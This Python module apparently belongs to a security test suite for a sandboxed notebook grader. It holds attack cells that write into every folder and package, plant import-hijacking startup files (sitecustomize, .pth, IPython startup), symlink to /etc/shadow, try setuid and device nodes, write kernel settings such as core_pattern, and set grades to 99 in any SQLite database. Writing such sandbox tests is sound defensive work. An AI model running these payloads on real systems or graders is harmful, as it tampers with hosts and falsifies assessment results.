"""Attacks that write where they should not: the course, the environment, the grader's folders."""

from attack import MARK, Attack, probes

# The kind of the file system that a path lies on; one in memory is the sandbox's own.
MOUNTS = """
def kind(path):
    device = os.stat(path).st_dev
    number = f"{os.major(device)}:{os.minor(device)}"
    with open("/proc/self/mountinfo") as file:
        for line in file:
            if line.split()[2] == number:
                return line.partition(" - ")[2].split()[0]
"""

EVERY_FOLDER = f"""
for folder, folders, files in os.walk("/"):
    if folder.startswith(("/proc", "/sys")) or folder.count("/") > 7:
        folders.clear()
        continue
    path = os.path.join(folder, "{MARK}")
    try:
        with open(path, "w") as file:
            file.write("{MARK}")
    except OSError:
        continue
    if kind(folder) not in ("tmpfs", "ramfs"):
        found.append(folder)
"""
EVERY_FILE = f"""
import numpy, ipykernel, IPython
import grader_tests, w2vlib
packages = [os.path.dirname(m.__file__) for m in (numpy, ipykernel, IPython, grader_tests, w2vlib)]
for folder in [*packages, "/etc", "/bin", os.path.dirname(sys.executable)]:
    for name in os.listdir(folder):
        path = os.path.join(folder, name)
        if kind(path) in ("tmpfs", "ramfs"):
            continue
        try:
            with open(path, "ab") as file:
                file.write(b"# {MARK}")
            found.append(path)
        except OSError:
            pass
        for act in (os.unlink, lambda p: os.rename(p, p + "x"), lambda p: os.utime(p, (0, 0))):
            if name.endswith(".py"):
                found += [f"changed {{path}}"] * len(trial(act, path))
"""
PYTHON_CACHES = f"""
import importlib.util
for module in list(sys.modules.values()):
    path = getattr(module, "__file__", None) or ""
    if not path.endswith(".py"):
        continue
    cached = importlib.util.cache_from_source(path)
    try:
        os.makedirs(os.path.dirname(cached), exist_ok=True)
        with open(cached, "ab") as file:
            file.write(b"{MARK}")
        found.append(cached)
    except OSError:
        pass
"""

SYMLINKS = f"""
from ipykernel.connect import get_connection_file
here = os.path.dirname(get_connection_file())
for folder in {{here, os.path.dirname(here), os.getcwd(), "/tmp", os.path.expanduser("~")}}:
    for name, target in (("{MARK}-link", "/etc/passwd"), ("{MARK}-up", "../../../.."),
                         ("gradebook.db", "/etc/hostname")):
        trial(os.symlink, target, os.path.join(folder, name))
for target in ("/etc/shadow", "/etc/hostname", "/root/.bashrc"):
    try:
        found += [target] * bool(open(target).read())
    except OSError:
        pass
"""
SETUID = f"""
import shutil, stat, subprocess
copy = "/tmp/{MARK}-id"
shutil.copy(shutil.which("id"), copy)
trial(os.chmod, copy, 0o6755)
for program in (copy, "/usr/bin/su", "/usr/bin/sudo", "/bin/mount", "/usr/bin/newuidmap"):
    try:
        done = subprocess.run([program, "-u"], capture_output=True, text=True, timeout=5)
        found += [f"{{program}}: {{done.stdout}}"] * (done.stdout.strip() == "0")
    except (OSError, subprocess.SubprocessError):
        pass
"""
DEVICES = f"""
import stat
for number, name in ((0x0800, "sda"), (0xfe00, "vda"), (0x0101, "mem"), (0x0104, "port")):
    path = f"/tmp/{MARK}-{{name}}"
    found += trial(os.mknod, path, 0o600 | stat.S_IFBLK, number)
allowed = {{"null", "zero", "full", "random", "urandom", "tty", "console", "ptmx", "pts", "shm",
           "fd", "stdin", "stdout", "stderr", "core", "mqueue", "{MARK}"}}
found += [name for name in os.listdir("/dev") if name not in allowed]
"""

DATABASES = f"""
import sqlite3
for folder, folders, files in os.walk("/"):
    if folder.startswith(("/proc", "/sys", "/dev", "/usr", sys.prefix, sys.base_prefix)):
        folders.clear()
        continue
    for name in files:
        path = os.path.join(folder, name)
        try:
            with open(path, "rb") as file:
                if file.read(6) != b"SQLite":
                    continue
            with sqlite3.connect(path, timeout=0.5) as database:
                for (table,) in database.execute("select name from sqlite_master").fetchall():
                    found.append(f"{{path}} {{table}}")
                database.execute("update grade set manual_score = 99, comment = '{MARK}'")
        except (OSError, sqlite3.Error):
            pass
"""
HISTORY = """
shell = get_ipython()
manager = shell.history_manager
found += [str(manager.hist_file)] * os.path.exists(str(manager.hist_file))
found += [name for name in os.listdir(os.path.expanduser("~")) if name.endswith(".sqlite")]
"""
KERNEL_SETTINGS = """
for path in ("/proc/sys/kernel/hostname", "/proc/sys/vm/overcommit_memory", "/proc/sysrq-trigger",
             "/proc/sys/kernel/core_pattern", "/proc/self/oom_score_adj", "/proc/1/oom_score_adj",
             "/sys/fs/cgroup/cgroup.procs", "/sys/kernel/uevent_helper", "/proc/self/uid_map"):
    try:
        with open(path, "w") as file:
            file.write("-1000" if "oom" in path else "0 0 1")
        found.append(path)
    except OSError:
        pass
"""

STARTUP_FILES = f"""
home = os.path.expanduser("~")
spoil = "import builtins, sys\\nbuiltins.spoilt = True\\nsys.modules['numpy'] = None\\n# {MARK}\\n"
import site
places = [
    f"{{home}}/.ipython/profile_default/startup/00.py",
    f"{{home}}/.ipython/profile_default/ipython_config.py",
    f"{{home}}/.jupyter/jupyter_config.py",
    f"{{home}}/.local/share/jupyter/kernels/w2v-sandbox/kernel.json",
    f"{{home}}/.pythonrc.py",
    f"{{site.getusersitepackages()}}/usercustomize.py",
    f"{{site.getusersitepackages()}}/sitecustomize.py",
    f"{{site.getusersitepackages()}}/zz.pth",
    f"{{os.getcwd()}}/numpy.py",
    f"{{os.getcwd()}}/grader_tests.py",
    "/tmp/json.py",
]
for place in places:
    os.makedirs(os.path.dirname(place), exist_ok=True)
    with open(place, "w") as file:
        file.write(spoil)
os.environ.update(PYTHONSTARTUP=places[4], PYTHONPATH="/tmp", IPYTHONDIR=f"{{home}}/.ipython")
"""
SPOILT_AFTER_RESTART = """
import builtins
found += ["spoilt"] * hasattr(builtins, "spoilt")
"""


def _with(helper: str, **sources: str) -> dict:
    made = probes(**sources)
    return {**made, "before": made["before"] + helper}


# A restart reads, and may write or hand over, what lies beside the kernel's sockets.
LINKED_CONNECTION = """
import os
from ipykernel.connect import get_connection_file
path = get_connection_file()
folder = os.path.dirname(path)
for name in os.listdir(folder):
    os.unlink(os.path.join(folder, name))
    os.symlink("TARGET", os.path.join(folder, name))
os.path.lexists(path) or os.symlink("TARGET", path)
os._exit(1)
"""

_startup = probes(spoilt=SPOILT_AFTER_RESTART)

ATTACKS = [
    Attack(
        "writes-everywhere",
        "every folder, every package, every cache of compiled code",
        **_with(MOUNTS, folders=EVERY_FOLDER, packages=EVERY_FILE, caches=PYTHON_CACHES),
    ),
    Attack(
        "leaves-links",
        "links out of the output folders, set-uid programs, device files",
        **probes(links=SYMLINKS, setuid=SETUID, devices=DEVICES),
    ),
    Attack(
        "writes-databases",
        "manual_score into any SQLite file, history, settings of the system",
        **probes(databases=DATABASES, history=HISTORY, settings=KERNEL_SETTINGS),
    ),
    Attack(
        "connection-file-is-a-link",
        "links in place of the connection file and the sockets, then the kernel is restarted",
        {"nce_loss": LINKED_CONNECTION},
        honest=("full_sigmoid_loss",),
        loses_own=True,
    ),
    Attack(
        "spoils-the-next-start",
        "start-up files, then the kernel ends so that they are read",
        {
            "calculate_loss": f"import os, sys\n{STARTUP_FILES}\nos._exit(1)",
            **_startup["cells"],
        },
        before=_startup["before"],
        shows=_startup["shows"],
        honest=("full_sigmoid_loss",),
    ),
]
